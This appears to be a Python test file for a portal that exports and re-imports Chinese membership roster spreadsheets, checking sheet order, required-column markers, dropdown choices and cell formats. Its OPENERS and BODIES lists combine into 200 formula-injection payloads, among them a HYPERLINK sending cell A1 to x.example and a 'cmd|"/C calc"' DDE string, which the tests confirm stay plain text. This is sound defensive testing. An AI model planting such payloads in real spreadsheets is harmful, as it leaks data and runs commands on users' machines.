from __future__ import annotations

import zipfile
from datetime import date
from io import BytesIO
from itertools import product
from typing import Any

from openpyxl import load_workbook

from portal.imports.columns import SCHEMAS, Kind, Need
from portal.imports.dry_run import dry_run
from portal.imports.records import MembershipRecord, PersonRecord, Roster, TermRecord, UnitRecord
from portal.imports.roster import read_roster
from portal.imports.template import marked_title, write_roster, write_template
from portal.imports.workbook import read_workbook

ON = date(2024, 11, 20)
#: What a spreadsheet may take for a formula, in both widths, with what attackers put behind it.
OPENERS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    '"=',
    " =",
    "=\u200b",
    "；=",
    "%",
    "|",
    "{=",
    "#",
    "_x003D_",
)
BODIES = (
    "1+1",
    "SUM(A1:A9)",
    'HYPERLINK("http://x.example/?"&A1,"点")',
    'cmd|"/C calc"!A0',
    'WEBSERVICE("http://x.example")',
    "DDE(1)",
    'IMPORTXML("http://x.example")',
    "N/A",
    "REF!",
    "张三",
)
PAYLOADS = [opener + body for opener, body in product(OPENERS, BODIES)]


def written(roster: Roster) -> bytes:
    target = BytesIO()
    write_roster(roster, target)
    return target.getvalue()


def hostile_roster() -> Roster:
    """A payload in every text of every record."""
    people = []
    terms = []
    units = [UnitRecord("U", PAYLOADS[0], "college_committee")]
    for number, payload in enumerate(PAYLOADS):
        units.append(UnitRecord(f"D{payload}", payload + "支部", "party_branch", "U"))
        details: dict[str, Any] = dict.fromkeys(
            ("sex", "ethnicity", "native_place", "education", "category", "grade", "major", "mobile"), payload
        )
        memberships = (MembershipRecord("party", f"D{payload}", payload, ON),)
        people.append(PersonRecord(f"{payload}{number}", payload, details, memberships))
        terms.append(TermRecord(f"{payload}{number}", payload, "U", ON))
    return Roster(tuple(units), tuple(people), tuple(terms))


def test_the_empty_template_can_be_read_and_says_nothing() -> None:
    target = BytesIO()
    write_template(target)
    found = read_roster(read_workbook(target.getvalue()), on=ON)
    assert (found.rows, found.remarks) == (0, ())


def test_the_sheets_stand_in_the_order_in_which_they_are_filled() -> None:
    workbook = load_workbook(BytesIO(written(Roster())))
    assert workbook.sheetnames == ["填写说明", "人员名册", "组织", "任职", "选项"]
    assert [sheet.title for sheet in workbook if sheet.sheet_state != "visible"] == ["选项"]


def test_titles_mark_what_must_be_filled() -> None:
    workbook = load_workbook(BytesIO(written(Roster())))
    for schema in SCHEMAS:
        row = next(workbook[schema.titles[0]].iter_rows(max_row=1, values_only=True))
        assert row == tuple(marked_title(column) for column in schema.columns)
    marked = {marked_title(column): column.need for schema in SCHEMAS for column in schema.columns}
    assert {title for title, need in marked.items() if need is Need.ALWAYS} == {
        "学号/工号*",
        "姓名*",
        "组织编号*",
        "组织名称*",
        "组织类别*",
        "职务*",
        "任职组织*",
        "任职日期*",
    }
    assert {title for title, need in marked.items() if need is Need.NEW} == {
        "性别（新增必填）",
        "出生日期（新增必填）",
        "类别（新增必填）",
    }


def test_every_choice_is_offered_from_the_sheet_of_choices() -> None:
    workbook = load_workbook(BytesIO(written(Roster())))
    for schema in SCHEMAS:
        sheet = workbook[schema.titles[0]]
        offered = {}
        for validation in sheet.data_validations.dataValidation:
            (span,) = validation.sqref.ranges
            title, _, cells = validation.formula1.partition("!")
            listed = workbook[title.strip("'")][cells.replace("$", "")]
            offered[span.min_col] = tuple(cell.value for (cell,) in listed)
        assert offered == {
            number: tuple(choice.title for choice in column.choices)
            for number, column in enumerate(schema.columns, start=1)
            if column.choices
        }


def test_empty_cells_keep_zeros_and_show_dates() -> None:
    workbook = load_workbook(BytesIO(written(Roster())))
    for schema in SCHEMAS:
        sheet = workbook[schema.titles[0]]
        for number, column in enumerate(schema.columns, start=1):
            letter = sheet.cell(1, number).column_letter
            expected = "yyyy-mm-dd" if column.kind is Kind.DATE else "@"
            assert sheet.column_dimensions[letter].number_format == expected


def test_the_help_sheet_explains_every_column_in_both_languages() -> None:
    for language in ("zh-hans", "en"):
        target = BytesIO()
        write_template(target, language=language)
        rows = list(load_workbook(target)["填写说明"].values)
        assert len(rows) == 1 + 5 + sum(len(schema.columns) for schema in SCHEMAS)
        assert all(row[3] for row in rows)


def test_no_text_of_two_hundred_payloads_becomes_a_formula_or_changes() -> None:
    assert len(PAYLOADS) == 200
    content = written(hostile_roster())
    with zipfile.ZipFile(BytesIO(content)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert [b"<f>" in sheet or b"<f " in sheet for sheet in sheets] == [False] * 5
    workbook = load_workbook(BytesIO(content))
    kinds = {
        cell.data_type
        for sheet in workbook
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    }
    assert kinds == {"s", "d"}
    (people,) = [sheet for sheet in read_workbook(content).sheets if sheet.title == "人员名册"]
    names = [row.cells[2].text for row in people.rows[1:]]
    assert names == [payload.replace("\r", "\ufffd").replace("\t", "\ufffd") for payload in PAYLOADS]


def test_a_spreadsheet_keeps_texts_texts_when_they_are_edited() -> None:
    sheet = load_workbook(BytesIO(written(hostile_roster())))["人员名册"]
    assert {(cell.quotePrefix, cell.number_format) for cell in sheet[2] if cell.data_type == "s"} == {
        (True, "@")
    }


def test_our_own_reader_sees_no_formula_either() -> None:
    found = dry_run(written(hostile_roster()), Roster(), on=ON).difference
    assert [
        remark for remark in found.remarks if remark.message in {"cell_formula", "cell_error_value"}
    ] == []


def test_units_of_one_name_are_written_by_their_code() -> None:
    roster = Roster(
        units=(
            UnitRecord("A", "甲学院党委", "college_committee"),
            UnitRecord("B", "乙学院党委", "college_committee"),
            UnitRecord("A1", "一班", "class", "A"),
            UnitRecord("B1", "一班", "class", "B"),
        ),
        people=(PersonRecord("1", "张三", {}, (MembershipRecord("class", "B1", "student", ON),)),),
    )
    found = dry_run(written(roster), roster, on=ON).difference
    assert (found.changes, found.remarks) == ((), ())
